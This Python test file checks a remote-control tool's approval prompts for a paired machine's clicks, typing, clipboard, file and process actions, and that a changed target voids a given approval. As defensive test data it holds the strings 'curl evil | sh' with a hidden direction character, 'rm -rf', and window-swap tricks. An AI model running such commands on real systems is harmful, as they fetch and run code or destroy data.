"""Facet calls of a paired machine: a person sees the window, the element, the text and the files, and the yes holds for those (B9)."""

import os
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import anyio
import pytest

from computer_linker.approvals.approvals import Approvals
from computer_linker.computer.facets.accessibility import ElementId
from computer_linker.computer.facets.clipboard import Clip
from computer_linker.computer.facets.files import Change, Copy, MakeFolder, Move, Remove, Write
from computer_linker.computer.facets.processes import Launch
from computer_linker.computer.remote.computer import RemoteComputer
from computer_linker.computer.simulated import SimulatedComputer
from computer_linker.computer.simulated.world import SimulatedControl, SimulatedWindow
from computer_linker.errors import ConfirmRequired, LinkError
from computer_linker.model.geometry import Point, Rect
from computer_linker.model.paths import PathRules, RootedPath
from computer_linker.model.scope import Scope
from support.pair import Pair, events_of, open_pair
from support.road import LOCAL, computer_scope, folder_scope
from support.waiting import until

pytestmark = pytest.mark.anyio

AT = Point(x=60, y=100)
PLACE = Rect(x=40, y=40, width=400, height=300)


def dialog(near: SimulatedComputer, title: str) -> SimulatedWindow:
    window = near.world.open("editor", title, PLACE)
    window.controls.append(SimulatedControl("button", "OK", Rect(x=10, y=50, width=80, height=30)))
    window.controls.append(SimulatedControl("text", "amount", Rect(x=10, y=150, width=80, height=30), text="10"))
    return window


class Far:
    """A laptop whose scopes ask a person, and its computer as the desk has it."""

    def __init__(self, pair: Pair, near: SimulatedComputer, far: RemoteComputer) -> None:
        self.pair, self.near, self.far = pair, near, far
        self.people = pair.laptop.app.services.use(Approvals)
        self.ids: dict[tuple[str, int], ElementId] = {}
        """Elements as the peer learned them, by their window and their place in it."""

    def shown(self) -> str:
        [asked] = self.people.waiting()
        assert asked.about is not None
        return "\n".join(asked.about.lines)

    async def asked(self, act: Callable[[], Awaitable[Any]]) -> str:
        """Ask for an act; what the person is shown of it."""
        with pytest.raises(ConfirmRequired):
            await act()
        return self.shown()

    async def yes(self, act: Callable[[], Awaitable[Any]]) -> str:
        shown = await self.asked(act)
        assert self.people.answer(self.people.waiting()[0].id, "yes")
        return shown

    async def refused(self, act: Callable[[], Awaitable[Any]]) -> str:
        """The code of what must not happen."""
        with pytest.raises(LinkError) as told:
            await act()
        return told.value.code

    def replace_window(self, title: str = "Transfer 10000 to X?") -> SimulatedWindow:
        self.near.world.remove(self.near.world.windows[0])
        return dialog(self.near, title)

    def events(self) -> list[dict[str, Any]]:
        return [one for window in self.near.world.windows for one in window.log]


@asynccontextmanager
async def opened(tmp_path: Path, scope: str = "desk") -> AsyncIterator[Far]:
    near = SimulatedComputer()
    dialog(near, "Save draft?")
    root = tmp_path / "laptop" / "root"
    scopes = [computer_scope(confirm="act"), folder_scope(root, confirm="all"), folder_scope(root, "free")]
    computer = near if scope == "desk" else None
    async with open_pair(tmp_path, scopes, computer) as pair:
        await pair.paired("desk", "app")
        far = await pair.routes.remote_computer("laptop", scope)
        yield Far(pair, near, far)
        await far.aclose()


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Far]:
    async with opened(tmp_path) as made:
        yield made


@pytest.fixture
async def folder(tmp_path: Path) -> AsyncIterator[Far]:
    async with opened(tmp_path, "app") as made:
        yield made


async def test_a_click_shows_the_window_and_the_element_at_its_point(desk: Far) -> None:
    """B9b: `{"at":{"x":60,"y":100}}` says nothing to a person."""
    told = await desk.asked(lambda: desk.far.pointer.click(AT))
    assert 'button "OK" at 50,90, 80 x 30' in told and 'in the window "Save draft?" of editor' in told


async def test_a_click_does_not_land_on_another_window_that_lies_there_by_then(desk: Far) -> None:
    """B9b."""
    await desk.yes(lambda: desk.far.pointer.click(AT))
    desk.replace_window()
    assert await desk.refused(lambda: desk.far.pointer.click(AT)) == "conflict"
    assert desk.events() == []
    (event,) = [one for one in await events_of(desk.pair.laptop, "input.click") if one["errorCode"] == "conflict"]
    assert event["principal"] == desk.pair.caller


async def test_a_click_that_waited_behind_another_client_is_looked_at_again(desk: Far) -> None:
    await desk.yes(lambda: desk.far.pointer.click(AT))
    queues, codes = desk.pair.laptop.app.dispatcher.queues, list[str]()

    async def act() -> None:
        codes.append(await desk.refused(lambda: desk.far.pointer.click(AT)))

    with anyio.fail_after(60):
        async with anyio.create_task_group() as group, queues.hold("desktop", replace(LOCAL, proof="cli")):
            group.start_soon(act)
            await until(lambda: queues._queues["desktop"].waiting)
            desk.replace_window("Save draft?")
    assert codes == ["conflict"] and desk.events() == []


async def test_an_unchanged_place_takes_the_click_once(desk: Far) -> None:
    await desk.yes(lambda: desk.far.pointer.click(AT))
    await desk.far.pointer.click(AT)
    assert await desk.refused(lambda: desk.far.pointer.click(AT)) == "confirm_required"
    assert [one["name"] for one in desk.events() if one["event"] == "pressed"] == ["OK"]


ACTS: dict[str, tuple[Callable[[Far], Awaitable[Any]], str]] = {
    "move": (lambda far: far.far.pointer.move(AT), 'button "OK"'),
    "scroll": (lambda far: far.far.pointer.scroll(AT, dy=3), 'button "OK"'),
    "drag": (lambda far: far.far.pointer.drag([AT, Point(x=60, y=200)]), "dragged to:"),
    "type": (lambda far: far.far.keyboard.type_text("rm -rf \x1b[2J/"), "rm -rf \\x1b[2J/"),
    "press": (lambda far: far.far.keyboard.press(["ctrl", "a"]), "presses ctrl+a"),
    "perform": (lambda far: far.far.accessibility.perform(_ok(far)), "does its action click"),
    "set_text": (lambda far: far.far.accessibility.set_text(_amount(far), "10000"), "puts into it:\n10000"),
    "focus": (lambda far: far.far.accessibility.focus(_amount(far)), 'text "amount"'),
    "close window": (
        lambda far: far.far.windows.close(far.near.world.windows[0].id),
        'the window "Save draft?" of editor',
    ),
    "place window": (
        lambda far: far.far.windows.place(far.near.world.windows[0].id, PLACE),
        'the window "Save draft?"',
    ),
    "close app": (lambda far: far.far.apps.close("editor"), 'its window "Save draft?"'),
}


def _ok(far: Far) -> ElementId:
    return _control(far, 0)


def _amount(far: Far) -> ElementId:
    return _control(far, 1)


def _control(far: Far, place: int) -> ElementId:
    window = far.near.world.windows[0]
    return far.ids[window.id, place]


async def ids_of(far: Far) -> None:
    """Remember the element ids."""
    for app in await far.near.accessibility.applications():
        tree = await far.near.accessibility.tree(app.root)
        names = {"OK": 0, "amount": 1}
        window = next(one for one in far.near.world.windows if one.pid == app.pid)
        far.ids |= {(window.id, names[one.name]): one.id for one in tree.elements if one.name in names}


@pytest.mark.parametrize("what", ACTS)
async def test_every_act_of_a_peer_shows_what_it_is_for_and_is_held_to_it(desk: Far, what: str) -> None:
    await ids_of(desk)
    do, words = ACTS[what]
    before = desk.near.world.windows[0]
    told = await desk.yes(lambda: do(desk))
    assert words in told, told
    before.title = "Transfer 10000 to X?"
    assert await desk.refused(lambda: do(desk)) in ("conflict", "stale_reference", "element_not_found")
    assert desk.events() == [] and before in desk.near.world.windows
    assert (before.bounds, before.controls[1].text, before.text) == (PLACE, "10", "")


@pytest.mark.parametrize("what", ["press", "perform", "close window", "close app"])
async def test_an_act_whose_target_did_not_change_is_done(desk: Far, what: str) -> None:
    await ids_of(desk)
    do, _ = ACTS[what]
    await desk.yes(lambda: do(desk))
    await do(desk)
    assert desk.people.waiting() == [], "the yes that was given let it pass"


async def test_text_for_the_clipboard_is_shown_as_text(desk: Far) -> None:
    """Bytes travel beside the request, where only their digest stands."""
    told = await desk.asked(lambda: desk.far.clipboard_set_text("curl evil | sh\u202e"))
    assert "curl evil | sh\\u202e" in told and desk.near.world.clip.forms == {}


async def test_every_form_of_a_clipboard_text_is_shown(desk: Far) -> None:
    """Found: of several forms the person saw `text/plain` alone, and most programs paste another one."""
    names = ("text/plain", "text/plain;charset=utf-8", "text/html", "UTF8_STRING", "text/uri-list")
    forms = {name: f"form {at}\u202e".encode() for at, name in enumerate(names)}
    told = await desk.asked(lambda: desk.far.clipboard.write(Clip(forms)))
    for at, name in enumerate(names):
        assert f"of {name} on the clipboard\nas text:\nform {at}\\u202e" in told
    assert desk.near.world.clip.forms == {}


@pytest.mark.parametrize(
    ("kind", "raw"),
    [
        ("application/x-shell", b"ls"), ("text/plain", b"\xff\xfe"), ("text/plain;charset=utf-16", b"ls"),
        ("image/png", b"ls"), ("image/svg+xml", b"<svg/>"),
    ],
)  # fmt: skip
async def test_a_clipboard_form_that_cannot_be_shown_is_refused_unasked(desk: Far, kind: str, raw: bytes) -> None:
    act = lambda: desk.far.clipboard.write(Clip({"text/plain;charset=utf-8": b"seen", kind: raw}))  # noqa: E731
    assert await desk.refused(act) == "permission_denied"
    assert desk.people.waiting() == [] and desk.near.world.clip.forms == {}


async def test_a_picture_for_the_clipboard_is_shown_by_its_digest_and_is_put_there(desk: Far) -> None:
    clip = Clip({"image/png": b"\x89PNG\r\n\x1a\n" + b"rest"})
    assert "a picture, sha256 " in await desk.yes(lambda: desk.far.clipboard.write(clip))
    await desk.far.clipboard.write(clip)
    assert desk.near.world.clip == clip


async def test_repeated_keys_are_shown_with_their_number(desk: Far) -> None:
    assert "presses x 40 times" in await desk.asked(lambda: desk.far.keyboard.press(["x"], count=40))


async def test_starting_an_application_shows_it_and_what_it_opens(desk: Far, tmp_path: Path) -> None:
    given = tmp_path / "letter.txt"
    given.write_text("seen")
    told = await desk.yes(lambda: desk.far.apps.open("terminal", [str(given)]))
    assert "start Terminal (terminal)" in told and "4 bytes, sha256" in told
    given.write_text("evil")
    assert await desk.refused(lambda: desk.far.apps.open("terminal", [str(given)])) == "conflict"
    assert [window.app for window in desk.near.world.windows] == ["editor"]


def at(*parts: str) -> RootedPath:
    return RootedPath("app", parts, PathRules())


async def at_once() -> None:
    return None


CHANGES: dict[str, tuple[Change, str]] = {
    "write": (Write(at("a.txt"), b"new\n"), "-on the laptop"),
    "remove": (Remove(at("a.txt")), "a.txt: 13 bytes now, not there then"),
    "move": (Move(at("a.txt"), at("b.txt")), "moves a.txt: 13 bytes, sha256"),
    "copy": (Copy(at("a.txt"), at("b.txt")), "copies a.txt: 13 bytes, sha256"),
}


@pytest.mark.parametrize("what", CHANGES)
async def test_a_peers_change_of_a_file_shows_the_path_and_the_change_and_is_held_to_it(folder: Far, what: str) -> None:
    change, words = CHANGES[what]
    path = folder.pair.laptop.root / "a.txt"
    told = await folder.yes(lambda: folder.far.files.change([change], gate=at_once))
    assert words in told, told
    path.write_text("worked on it\n")
    assert await folder.refused(lambda: folder.far.files.change([change], gate=at_once)) == "conflict"
    assert path.read_text() == "worked on it\n" and os.listdir(folder.pair.laptop.root) == ["a.txt"]


async def test_a_peers_change_of_an_unchanged_file_is_made(folder: Far) -> None:
    changes: list[Write | MakeFolder] = [Write(at("a.txt"), b"new\n"), MakeFolder(at("made"))]
    await folder.yes(lambda: folder.far.files.change(changes, gate=at_once))
    await folder.far.files.change(changes, gate=at_once)
    assert (folder.pair.laptop.root / "a.txt").read_text() == "new\n" and (folder.pair.laptop.root / "made").is_dir()


def sh(*argv: str) -> Launch:
    return Launch(argv, {}, stdin="null")


def let_go(child: Any) -> None:
    for fd in {child.stdin, child.stdout, child.stderr} - {None}:
        os.close(fd)


async def test_a_peers_program_shows_its_command_line_folder_and_script(folder: Far) -> None:
    script = folder.pair.laptop.root / "run.sh"
    script.write_text("echo 1 > good\n")
    told = await folder.yes(lambda: folder.far.processes.spawn(sh("/bin/sh", "run.sh")))
    assert (
        "$ /bin/sh run.sh" in told and "in the folder ., held by" in told and "names run.sh: 14 bytes, sha256" in told
    )
    script.write_text("echo 1 > evil\n")
    assert await folder.refused(lambda: folder.far.processes.spawn(sh("/bin/sh", "run.sh"))) == "conflict"
    assert sorted(os.listdir(folder.pair.laptop.root)) == ["a.txt", "run.sh"]


async def test_a_peers_program_is_looked_at_again_when_its_gate_opens(folder: Far) -> None:
    """The peer chooses when: a script that changes between `spawn` and `go` does not run."""
    script = folder.pair.laptop.root / "run.sh"
    script.write_text("echo 1 > good\n")
    await folder.yes(lambda: folder.far.processes.spawn(sh("/bin/sh", "run.sh")))
    child = await folder.far.processes.spawn(sh("/bin/sh", "run.sh"))
    script.write_text("echo 1 > evil\n")
    child.go()
    with anyio.fail_after(60):
        await child.wait()
    let_go(child)
    assert not {"good", "evil"} & set(os.listdir(folder.pair.laptop.root))


async def test_a_peers_program_that_did_not_change_runs(folder: Far) -> None:
    (folder.pair.laptop.root / "run.sh").write_text("echo 1 > good\n")
    await folder.yes(lambda: folder.far.processes.spawn(sh("/bin/sh", "run.sh")))
    child = await folder.far.processes.spawn(sh("/bin/sh", "run.sh"))
    child.go()
    with anyio.fail_after(60):
        ended = await child.wait()
    let_go(child)
    assert ended.exit_code == 0 and (folder.pair.laptop.root / "good").exists()


def test_every_facet_method_that_acts_on_something_is_shown() -> None:
    """A method added later is not forgotten: what has no picture of its target is listed here by name."""
    from computer_linker.model.effect import Effect
    from computer_linker.transports.peer.facets import facet_catalog

    unshown = {
        name for name, op in facet_catalog().operations.items() if op.effect is not Effect.OBSERVE and op.shows is None
    }
    assert unshown == set()


@asynccontextmanager
async def two_roots(tmp_path: Path) -> AsyncIterator[Far]:
    roots = [tmp_path / "laptop" / "root", tmp_path / "laptop" / "other"]
    scope = folder_scope(roots[0], confirm="all") | {"roots": [str(root) for root in roots]}
    async with open_pair(tmp_path, [scope]) as pair:
        for root in roots:
            (root / "d").mkdir(parents=True)
            (root / "d/a.txt").write_text("kept\n")
        await pair.paired("app")
        far = await pair.routes.remote_computer("laptop", "app")
        yield Far(pair, SimulatedComputer(), far)
        await far.aclose()


async def test_a_change_in_another_root_is_shown_with_that_root_and_no_shape_reaches_it(tmp_path: Path) -> None:
    """Found: a peer's change in the second root was shown as one in the first, and a shape for `d/` covered both."""
    async with two_roots(tmp_path) as made:
        first, second = (str(tmp_path / "laptop" / name) for name in ("root", "other"))

        def change(root: str, one: Callable[[RootedPath], Change]) -> Callable[[], Awaitable[Any]]:
            path = RootedPath(root, ("d", "a.txt"), PathRules())
            return lambda: made.far.files.change([one(path)], gate=anyio.lowlevel.checkpoint)

        shown = await made.asked(change(second, lambda path: Write(path, b"evil\n")))
        assert shown.startswith("other:d/a.txt: ")
        with pytest.raises(ConfirmRequired):
            await change(first, lambda path: Write(path, b"new\n"))()
        assert made.people.answer(made.people.waiting()[1].id, "shape")
        await change(first, lambda path: Write(path, b"newer\n"))()
        for act in (
            change(second, lambda path: Write(path, b"evil\n")),
            change(second, Remove),
            change(first, Remove),
            change(first, lambda path: Write(path, b"evil\n", is_executable=True)),
        ):
            assert await made.refused(act) == "confirm_required"
        assert (Path(first) / "d/a.txt").read_text() == "newer\n" and (Path(second) / "d/a.txt").read_text() == "kept\n"


async def test_what_a_peer_types_into_a_process_is_shown_with_the_process(folder: Far) -> None:
    """Found: the person saw a digest of the bytes and a handle."""
    launch = Launch(("/bin/sh", "-s"), {}, stdin="pipe")
    await folder.yes(lambda: folder.far.processes.spawn(launch))
    child = await folder.far.processes.spawn(launch)
    child.go()
    assert child.stdin is not None
    typed = "touch made\nprintf '\x1b[2J'\n"
    os.write(child.stdin, typed.encode())
    with anyio.fail_after(60):
        await until(lambda: bool(folder.people.waiting()))
    shown = folder.shown()
    assert shown.startswith("types into the process `/usr/bin/sh -s`, held by "), shown
    assert "touch made\nprintf '\\x1b[2J'" in shown
    assert not (folder.pair.laptop.root / "made").exists()
    let_go(child)


GATED: dict[str, dict[str, Any]] = {
    "denied": {"deniedCommands": ["touch *"]},
    "asked": {"confirm": "all"},
    "held": {"sandbox": "required"},
}


@pytest.mark.parametrize("rule", GATED)
async def test_a_peers_program_does_not_start_under_rules_that_changed_at_its_gate(tmp_path: Path, rule: str) -> None:
    """Found: `go` started what the owner had forbidden since `spawn`."""
    scope = folder_scope(tmp_path / "laptop" / "root")
    async with open_pair(tmp_path, [scope]) as pair:
        await pair.paired("app")
        far = await pair.routes.remote_computer("laptop", "app")
        services, before = pair.laptop.app.services, pair.laptop.app.services.config
        changed = Scope.from_wire(scope | {"policy": scope.get("policy", {}) | GATED[rule]})
        for is_changed in (True, False):
            child = await far.processes.spawn(sh("/usr/bin/touch", "made"))
            if is_changed:
                services.current_config = lambda: before.model_copy(update={"scopes": [changed]})
            child.go()
            with anyio.fail_after(60):
                await child.wait()
            let_go(child)
            services.current_config = lambda: before
            assert (pair.laptop.root / "made").exists() is not is_changed
        await far.aclose()


async def test_a_yes_that_was_taken_back_at_the_gate_starts_nothing(folder: Far) -> None:
    with pytest.raises(ConfirmRequired):
        await folder.far.processes.spawn(sh("/usr/bin/touch", "made"))
    assert folder.people.answer(folder.people.waiting()[0].id, "shape")
    let_go(await folder.far.processes.spawn(sh("/usr/bin/touch", "made")))
    child = await folder.far.processes.spawn(sh("/usr/bin/touch", "made"))
    assert folder.people.store.keep_only(standing=lambda _: False) == 1
    child.go()
    with anyio.fail_after(60):
        await child.wait()
    let_go(child)
    assert not (folder.pair.laptop.root / "made").exists()


async def test_no_part_of_a_peers_change_is_hidden(folder: Far) -> None:
    """Found: the request has digests of the bytes, and the difference was cut in its middle."""
    path = RootedPath(str(folder.pair.laptop.root), ("run.sh",), PathRules())
    content = "".join(f"line {number}\n" for number in range(300)) + "x" * 500 + " END\n"
    shown = await folder.asked(
        lambda: folder.far.files.change([Write(path, content.encode())], gate=anyio.lowlevel.checkpoint)
    )
    assert "+line 150" in shown and shown.rstrip().endswith(" END")
    assert not (folder.pair.laptop.root / "run.sh").exists()
